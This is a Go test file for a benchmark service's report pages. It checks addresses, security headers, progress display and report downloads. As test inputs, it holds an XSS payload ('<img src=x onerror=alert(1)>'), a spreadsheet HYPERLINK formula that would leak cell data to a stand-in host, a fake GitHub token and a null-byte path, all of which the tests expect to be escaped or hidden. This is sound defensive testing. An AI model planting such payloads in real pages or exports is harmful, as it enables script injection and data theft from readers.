package pages

import (
	"encoding/json"
	"net/http"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/prbench/prbench/internal/benchfmt"
	"github.com/prbench/prbench/internal/job"
)

func TestWhateverIsWrongWithAnAddressGetsTheSameAnswer(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldSpec{})
	j, other := w.measured(), w.measured()
	bare := w.ask(nil)
	_, err := w.store.Update(t.Context(), bare.ID, func(j *job.Job) error { j.Page = ""; return nil })
	w.ok(err)
	explained := w.ask(func(j *job.Job) { j.Explain, j.State = &job.Explain{Table: "x"}, job.Publishing })
	me := w.browser()
	if p := me.open(w.pages.URL(j)); p.status != http.StatusOK {
		t.Fatalf("the right address: %d\n%s", p.status, p.body)
	}
	root := w.site.URL + "/r/"
	want := me.open(root + "nothing")
	if want.status != http.StatusNotFound {
		t.Fatalf("%d", want.status)
	}
	flipped := strings.Map(func(r rune) rune {
		if r == '0' {
			return '1'
		}
		return '0'
	}, j.Page)
	for _, path := range []string{
		"", string(j.ID), string(j.ID) + "-", string(j.ID) + "-" + flipped, string(j.ID) + "-" + other.Page, string(j.ID) + "-" + strings.ToUpper(j.Page) + "x",
		string(j.ID) + "-" + j.Page + "0", string(j.ID) + "-" + j.Page[:31], "999.1.1-" + j.Page, "x.1.1-" + j.Page, "-" + j.Page,
		address(j) + "/", address(j) + "/nothing", address(j) + "/samples.csv/", address(j) + "/page", address(j) + "/record.json", address(j) + "/record-samples.jsonl",
		string(bare.ID) + "-", string(bare.ID) + "-" + bare.Page, address(explained), "callback", strings.Repeat("9", 300) + "-" + j.Page, string(j.ID) + "-%00" + j.Page,
	} {
		if got := me.open(root + path); !reflect.DeepEqual([]any{got.status, got.header, got.body}, []any{want.status, want.header, want.body}) {
			t.Errorf("%q: %d %v\n%s", path, got.status, got.header, got.body)
		}
	}
	for _, method := range []string{http.MethodPost, http.MethodPut, http.MethodDelete, http.MethodOptions} {
		if got := me.do(method, w.pages.URL(j)); got.status != want.status || got.body != want.body {
			t.Errorf("%s: %d", method, got.status)
		}
	}
	if w.pages.URL(bare) == "" || w.pages.URL(explained) != "" || w.pages.URL(job.Job{ID: j.ID}) != "" {
		t.Error("a job without a page has an address, or one with a page has none")
	}
}

func TestEveryAnswerIsClosedToFramesScriptsAndSearchEngines(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldSpec{})
	j := w.measured()
	for _, path := range []string{"", "/samples.csv", "/report.html", "/nothing"} {
		p := w.browser().open(w.pages.URL(j) + path)
		policy := p.header.Get("Content-Security-Policy")
		for _, part := range []string{"default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'none'"} {
			if !strings.Contains(policy, part) {
				t.Errorf("%s: the policy %q lacks %s", path, policy, part)
			}
		}
		if strings.Contains(policy, "unsafe") || strings.Contains(policy, "script-src") {
			t.Errorf("%s: the policy is %q", path, policy)
		}
		for name, value := range map[string]string{"X-Robots-Tag": "noindex, nofollow, noarchive", "Referrer-Policy": "no-referrer", "X-Content-Type-Options": "nosniff"} {
			if got := p.header.Get(name); got != value {
				t.Errorf("%s: %s is %q", path, name, got)
			}
		}
		if !strings.Contains(p.header.Get("Cache-Control"), "no-") {
			t.Errorf("%s: Cache-Control is %q", path, p.header.Get("Cache-Control"))
		}
	}
}

func TestAPageFollowsItsJobFromTheQueueToItsReport(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldSpec{})
	w.follow()
	w.ask(nil)
	j := w.ask(func(j *job.Job) { j.Spec.Runs, j.Spec.Looks = job.Adaptive, []int{8, 15} })
	me := w.browser()
	w.until(me, j, "1 job is ahead of it.").says(t, "Waiting for a runner", "https://forge.test/acme/engine/pull/1")
	l := w.claim()
	w.end(l, job.Outcome{Kind: job.BuildFailed, Side: job.New, Text: "exit 2", Log: "no rule <make>"})
	w.until(me, l.Job, "does not build").says(t, "no rule &lt;make&gt;", "report.md")
	w.until(me, j, "It is the next in line.")

	l = w.claim()
	p := w.until(me, j, "Starting")
	if p.header.Get("Refresh") == "" {
		t.Error("the page of a running job does not renew itself")
	}
	p.says(t, "No benchmark has completed its first look yet.")
	w.beat(l, job.Progress{Phase: job.PhaseMeasure, Done: 18, Total: 30, AtMost: true, Left: job.Duration(4 * time.Minute), Case: "a<b>"})
	w.pairs(l, 0, 9)
	w.beat(l, job.Progress{Phase: job.PhaseMeasure, Done: 19, Total: 30, AtMost: true, Left: job.Duration(3 * time.Minute), Case: "a<b>",
		Look: 2, Looks: 2, Pair: 2, Pairs: 7, CaseNumber: 1, Cases: 2})
	p = w.until(me, j, "Measure: 19 of at most 30 runs, look 2 of 2, about 3 min left at most")
	p.says(t, `<progress value="19" max="30">`, "It is at a&lt;b&gt;, case 1 of 2, pair 2 of 7.", "Interim.", "Look 1 of 2, at 8 pairs: 1 resolved", "<code>clear</code>", "samples.csv")
	p.hides(t, "report.json", "Look 2 of 2")

	w.pairs(l, 9, 15)
	w.end(l, job.Outcome{Kind: job.Measured, Runs: 30, Pairs: 15, Host: job.Host{Name: "box"}})
	p = w.until(me, j, "1 regression beyond 2 %")
	p.says(t, "Confidence table", "<picture>", address(j)+"/report.json")
	p.hides(t, "Interim", "<progress")
	if p.header.Get("Refresh") != "" {
		t.Error("a finished page renews itself")
	}
}

func TestAFixedNumberOfRunsIsNotShownBeforeItsEnd(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldSpec{})
	j := w.ask(nil)
	l := w.claim()
	w.pairs(l, 0, 4)
	w.beat(l, job.Progress{Phase: job.PhaseMeasure, Done: 8, Total: 10})
	p := w.browser().open(w.pages.URL(j))
	p.says(t, "It is judged when all of its 5 runs a side are done")
	p.hides(t, "<table>", "Interim", "<picture>")
}

func TestACancelledJobAndLostSamplesAreSaidToBeSo(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldSpec{})
	j := w.ask(nil)
	_, err := w.store.Cancel(t.Context(), j.ID, job.Cancel{By: "reader", Reason: "a new <push>"})
	w.ok(err)
	w.browser().open(w.pages.URL(j)).says(t, "Cancelled", "cancelled before it ran", "a new &lt;push&gt;")
	j = w.ask(nil)
	l := w.claim()
	w.end(l, job.Outcome{Kind: job.Measured, Runs: 10, Pairs: 5})
	w.browser().open(w.pages.URL(j)).says(t, "not kept any more", "90 days")
}

func TestEveryFormOfTheReportCanBeKept(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldSpec{})
	first := w.measured()
	j := w.measured("ghp_abcdefghijklmnopqrstuvwx", `<img src=x onerror=alert(1)>`)
	me := w.browser()
	for file, words := range map[string]string{
		"samples.csv": `"old","clear"`, "report.json": `"schema":`, "report.md": "### ", "report.txt": "confidence", "report.html": "<!DOCTYPE html>",
	} {
		p := me.open(w.pages.URL(j) + "/" + file)
		ext := file[strings.Index(file, "."):]
		if p.status != http.StatusOK || p.header.Get("Content-Disposition") != `attachment; filename="prbench-engine-1-2-`+strings.TrimSuffix(file, ext)+ext+`"` {
			t.Errorf("%s: %d, %v", file, p.status, p.header)
		}
		p.says(t, words)
		p.hides(t, "ghp_abcdefghijklmnopqrstuvwx")
	}
	if body := me.open(w.pages.URL(j) + "/report.json").body; !json.Valid([]byte(body)) {
		t.Errorf("no JSON: %s", body)
	}
	read := benchfmt.NewReader(strings.NewReader(me.open(w.pages.URL(j)+"/samples.csv").body), "samples.csv", benchfmt.Options{Format: job.FormatNodeCSV})
	rows := 0
	for read.Scan() {
		if r := read.Record(); r.Sample.Unit != "ns/op" || r.Suite != "speed" || r.Pair > 4 || r.Sample.Time == 0 {
			t.Errorf("a sample reads back as %+v", r)
		}
		rows++
	}
	if read.Err() != nil || rows != 2*5*3 {
		t.Errorf("%d samples read back, %v", rows, read.Err())
	}
	p := me.open(w.pages.URL(j))
	p.says(t, w.pages.URL(first), "&lt;img src=x onerror=alert(1)&gt;")
	p.hides(t, "<img src=x")
	me.open(w.pages.URL(first)).says(t, "Confidence table")
	if p := me.do(http.MethodHead, w.pages.URL(j)+"/samples.csv"); p.status != http.StatusOK || p.body != "" {
		t.Errorf("HEAD: %d, %d bytes", p.status, len(p.body))
	}
}

func TestSamplesHoldNoFormulaForASpreadsheetAndTheExactNamesForUs(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldSpec{})
	formula := `=HYPERLINK("http://forge.test/?"&A1)`
	j := w.measured(formula)
	p := w.browser().open(w.pages.URL(j) + "/samples.csv")
	p.says(t, `,"'=HYPERLINK(""http://forge.test/?""&A1)",`)
	p.hides(t, `"=HYPERLINK`)
	read := benchfmt.NewReader(strings.NewReader(p.body), "samples.csv", benchfmt.Options{Format: job.FormatNodeCSV})
	names := map[string]int{}
	for read.Scan() {
		names[read.Record().Sample.Benchmark]++
	}
	if read.Err() != nil || len(names) != 2 || names[formula] != 10 {
		t.Errorf("the samples read back are of %v, %v", names, read.Err())
	}
}

func TestAReportThatIsNotThereYetIsNotFound(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldSpec{})
	j := w.ask(nil)
	for _, file := range []string{"report.json", "samples.csv"} {
		if p := w.browser().open(w.pages.URL(j) + "/" + file); p.status != http.StatusNotFound {
			t.Errorf("%s of a waiting job: %d", file, p.status)
		}
	}
	l := w.claim()
	w.pairs(l, 0, 1)
	w.browser().open(w.pages.URL(j)+"/samples.csv").says(t, `"old","clear"`)
	w.end(l, job.Outcome{Kind: job.BuildFailed, Side: job.Old, Log: "broken"})
	w.browser().open(w.pages.URL(j)+"/report.md").says(t, "does not build", "broken")
	if p := w.browser().open(w.pages.URL(j) + "/report.json"); p.status != http.StatusNotFound {
		t.Errorf("the JSON of a failure: %d", p.status)
	}
}

func TestTheRecordOfABackportIsBesideItsPage(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldSpec{})
	j := w.ask(func(j *job.Job) { j.Backport = &job.Backport{Group: "g", Lines: []string{"v1"}, Line: "v1"} })
	if p := w.browser().open(w.pages.URL(j) + "/record.json"); p.status != http.StatusNotFound {
		t.Errorf("a record that is not there: %d", p.status)
	}
	l := w.claim()
	w.pairs(l, 0, 5)
	w.end(l, job.Outcome{Kind: job.Measured, Runs: 10, Pairs: 5})
	w.browser().open(w.pages.URL(j)).hides(t, "record.json")
	w.ok(w.store.PutRecord(t.Context(), j.ID, []byte(`{"line":"v1"}`), strings.NewReader("{\"side\":\"old\"}\n")))
	w.browser().open(w.pages.URL(j)).says(t, address(j)+"/record.json", "record-samples.jsonl")
	for file, want := range map[string]string{"record.json": `{"line":"v1"}`, "record-samples.jsonl": "{\"side\":\"old\"}\n"} {
		p := w.browser().open(w.pages.URL(j) + "/" + file)
		if p.status != http.StatusOK || p.body != want || !strings.HasPrefix(p.header.Get("Content-Disposition"), "attachment;") {
			t.Errorf("%s: %d %v %q", file, p.status, p.header, p.body)
		}
	}
}
